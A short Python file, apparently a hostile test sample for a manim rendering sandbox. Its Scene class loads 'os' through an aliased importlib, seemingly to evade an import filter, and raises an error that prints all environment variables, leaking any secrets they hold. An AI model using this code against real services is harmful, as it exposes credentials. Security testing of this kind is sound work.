from manim import *
from manim.utils.module_ops import importlib as _il
G = _il.import_module
class Hostile(Scene):
    def construct(self):
        os = G("os")
        raise RuntimeError("environ: " + repr(dict(os.environ)))
        self.play(Create(Circle()), run_time=0.1)
